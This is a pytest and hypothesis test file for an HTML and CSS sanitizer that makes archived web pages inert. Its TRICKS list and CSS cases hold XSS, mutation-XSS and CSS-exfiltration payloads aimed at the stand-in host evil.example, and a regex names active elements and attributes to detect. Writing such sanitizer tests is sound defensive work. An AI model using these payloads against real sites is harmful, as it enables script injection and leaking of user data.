"""A foreign page made inert: nothing in it runs, asks or leads anywhere, and its text stays."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from motherlode.model import Page, Where
from motherlode.read.html import HtmlDocument
from motherlode.web.archived import Manner, inert_page
from motherlode.web.inert_names import SHOWN
from motherlode.web.inert_style import inert_style

TRICKS = [
    "<script>fetch('{evil}')</script>",
    "<img src='{evil}' onerror='x()'>",
    "<svg onload='x()'><image href='{evil}'/><script>x()</script></svg>",
    "<math href='{evil}'><mi xlink:href='{evil}'>x</mi>"
    "<annotation-xml encoding='text/html'><img src={evil}></annotation-xml></math>",
    "<iframe srcdoc='<img src={evil}>'></iframe>",
    "<form action='{evil}'><input name=a value=b><button formaction='{evil}'>go</button></form>",
    "<a href='javascript:x()'>link</a><a href='{evil}' ping='{evil}'>other</a>",
    "<object data='{evil}'></object><embed src='{evil}'><video poster='{evil}' src='{evil}'></video>",
    "<meta http-equiv=refresh content='0;url={evil}'><base href='{evil}'><link rel=prefetch href='{evil}'>",
    "<style>@import '{evil}'; body {{ background: url({evil}) }} input[value^=a] {{ background: url({evil}) }}</style>",
    "<p style='background:url({evil})'>styled</p><table background='{evil}'><tr><td>cell</table>",
    "<img name=querySelectorAll><form id=frame name=contentDocument></form><img srcset='{evil} 2x'>",
    "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript><textarea></textarea><img src={evil}>",
    "<xmp><img src={evil}></xmp><plaintext><img src={evil}>",
]
EVIL = "http://evil.example/seen"
ACTIVE = re.compile(
    r"<(?:script|iframe|object|embed|form|input|button|svg|link|base|video|audio|meta (?!charset)|textarea|template)\b"
    r"|\son\w+\s*=|javascript:(?!x\(\)\")|\b(?:src|href|action|formaction|srcset|ping|background|poster|name|srcdoc)\s*=",
    re.I,
)


def tags_of(html: str) -> str:
    """The tags alone: what stands in text or between quotes is no markup."""
    return "".join(re.sub(r'"[^"]*"', '""', tag) for tag in re.findall(r"<[^<>]*>", html))


@pytest.mark.parametrize("trick", TRICKS)
@pytest.mark.parametrize("styled", [False, True])
def test_tricks_leave_nothing_active(trick: str, styled: bool) -> None:
    page = Page(f"<html><body><p>kept</p>{trick.format(evil=EVIL)}<p>end</p></body></html>".encode())
    shown = inert_page(page, [], Manner("hidden", styled=styled))
    assert "kept" in shown
    assert ACTIVE.search(tags_of(shown)) is None
    styles = "".join(re.findall(r"<style>(.*?)</style>", shown, re.DOTALL))
    assert "url(" not in styles
    assert "@import" not in styles


@given(st.text(alphabet="<>/=\"' abiscrptonlemvgyh&;-!{}\\:()", max_size=120))
@settings(max_examples=150, deadline=None)
def test_no_text_whatever_becomes_active(text: str) -> None:
    shown = inert_page(Page(f"<html><body>{text}</body></html>".encode()), [], Manner(styled=True))
    assert ACTIVE.search(tags_of(shown)) is None


@pytest.mark.parametrize(
    "css",
    [
        r"p { background: \75\72\6c(http://evil.example) }",
        r"i { background: url(x) } p { background: \75\72\6c(http://evil.example) }",
        r"@\69mport 'http://evil.example';",
        "@import/**/url(http://evil.example);",
        "p { background: URL( 'http://evil.example' ) }",
        "p { background: image-set('http://evil.example' 1x) }",
        "@font-face { font-family: x; src: url(http://evil.example) }",
        "</style><script>x()</script>",
        "p { -moz-binding: url(http://evil.example) }",
    ],
)
def test_styles_ask_for_nothing(css: str) -> None:
    inert = inert_style(css)
    assert not re.search(r"url\s*\(|\\75|@import|image-set\s*\(|</style|-moz-binding", inert, re.I)


def test_marks_lead_to_the_nodes_of_the_extraction() -> None:
    page = Page(b"<html><head><title>T</title></head><body><div><p>one</p><p>two</p></div></body></html>")
    doc = HtmlDocument(page)
    places = [doc.where(doc.table.of("p")[1]), doc.where(doc.table.of("title")[0]), Where(xpath="not (an xpath")]
    shown = inert_page(page, places, Manner("In the source"))
    assert '<p data-lode="0">two</p>' in shown
    assert '<code data-lode="1">&lt;title&gt; T</code>' in shown


def test_what_people_read_stays() -> None:
    page = Page("<html><body><table><tr><td colspan=2>格子</td></tr></table><pre>a\n b</pre></body></html>".encode())
    shown = inert_page(page, [], Manner())
    assert '<td colspan="2">格子</td>' in shown
    assert "<pre>a\n b</pre>" in shown


def test_deep_pages_are_shown() -> None:
    page = Page(b"<html><body>" + b"<div>" * 5000 + b"deep" + b"</body></html>")
    assert "deep" in inert_page(page, [], Manner())


def test_no_active_element_is_on_the_list() -> None:
    assert not SHOWN & {"script", "style", "iframe", "form", "input", "object", "embed", "link", "meta", "base", "svg"}
